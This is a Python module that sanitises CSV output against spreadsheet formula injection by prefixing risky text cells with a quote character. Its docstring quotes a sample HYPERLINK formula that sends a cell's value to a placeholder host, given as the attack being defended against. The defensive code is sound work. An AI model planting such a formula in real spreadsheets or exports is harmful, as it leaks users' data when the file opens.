"""CSV that a spreadsheet opens without running anything (every CSV the product writes).

A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` (or a tab, a carriage return
or a NUL before one) as a formula: a value from a database, a question or a feedback comment
such as `=HYPERLINK("http://x/?"&A1,"y")` would run when the file is opened. As OWASP (CSV
injection) and ASVS 1.2.10 recommend, such text cells get a leading `'`, which spreadsheets
read as "text" and do not show. Numbers (int, float, Decimal values, which a spreadsheet reads
as numbers: -3.5 is minus three and a half, not a formula) are written as they are, floats
with every digit. Text cells are quoted, so a `;` inside one cannot start a new cell where
`;` is the list separator. JSON outputs keep the exact values; only CSV is changed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

__all__ = ["csv_cell", "to_csv"]

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def csv_cell(value: object) -> object:
    """`value` as a CSV cell: a number as it is, None as empty, anything else as text with a
    leading `'` when it begins like a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = value if isinstance(value, str) else str(value)
    return f"'{text}" if text.startswith(_FORMULA_STARTS) else text


def to_csv(columns: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A header and rows as CSV text, every cell through `csv_cell`: numbers bare (floats as
    `repr` gives them: exact), text quoted."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([csv_cell(c) for c in columns])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return out.getvalue()
